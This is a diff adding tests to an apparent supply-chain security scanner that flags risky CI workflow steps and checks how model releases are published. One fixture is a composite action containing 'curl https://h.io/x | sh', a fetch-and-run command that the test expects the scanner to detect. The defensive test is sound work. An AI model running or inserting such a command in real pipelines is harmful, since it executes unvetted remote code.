@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from weighbridge.api import audit
-from weighbridge.core.evidence import AttackPath
+from weighbridge.core.evidence import AttackPath, Table
 from weighbridge.core.finding import Action
 from weighbridge.reports.sarif import log
 from weighbridge.sources.target import Access
@@ -321,3 +321,48 @@ def test_the_script_of_another_place_is_read_where_it_is_called() -> None:
     case = case_named("in a script that a step calls")
     finding = next(f for f in look(case.files)[0] if f.check == "workflow-download")
     assert (finding.at.path, finding.at.line) == ("ci/setup.sh", 3)
+
+
+def test_an_action_of_the_repository_in_the_folder_it_was_checked_out_to() -> None:
+    own = f"uses: actions/checkout@{SHA}\nwith:\n  path: here"
+    action = "runs:\n  using: composite\n  steps:\n    - run: curl https://h.io/x | sh\n"
+    files: dict[str, str | bytes] = {
+        PATH: workflow("push:", own, "uses: ./here/a", job=TOKEN),
+        "a/action.yml": action,
+    }
+    findings, gaps = look(files)
+    assert gaps == []
+    assert [f.at.path for f in findings if f.check == "workflow-download"] == ["a/action.yml"]
+
+
+def test_what_publishes_is_listed() -> None:
+    findings, _ = look(case_named("a package by the identity of the run").files)
+    listed = next(f for f in findings if f.check == "release-publishing")
+    (table,) = listed.evidence
+    assert isinstance(table, Table)
+    assert table.rows == (
+        (f"{PATH}: work", "package", "push", "the environment pypi may ask for approval",
+         "its own identity", "provenance", ""),
+    )  # fmt: skip
+    assert any(f.symbol == "attested" for f in findings)
+
+
+@pytest.mark.parametrize(
+    ("name", "verdict"),
+    [
+        ("a package by a password that lives on", "warn"),
+        ("a package by the identity of the run", "unknown"),
+    ],
+)
+def test_the_release_of_a_model_with_its_source(tmp_path: Path, name: str, verdict: str) -> None:
+    """An attestation that a workflow makes is not the artifact's: the control never passes."""
+    source, model = tmp_path / "repository", tmp_path / "model"
+    (source / ".github" / "workflows").mkdir(parents=True)
+    (source / PATH).write_text(case_named(name).files[PATH])
+    model.mkdir()
+    (model / "config.json").write_text("{}")
+    report = audit(model, access=Access(parts=(("source", str(source)),)))
+    control = next(c for c in report.controls if c.id == "release")
+    assert control.verdict.value == verdict
+    listed = next(f for f in control.findings if f.check == "release-publishing")
+    assert listed.at.path == f"source:{PATH}"
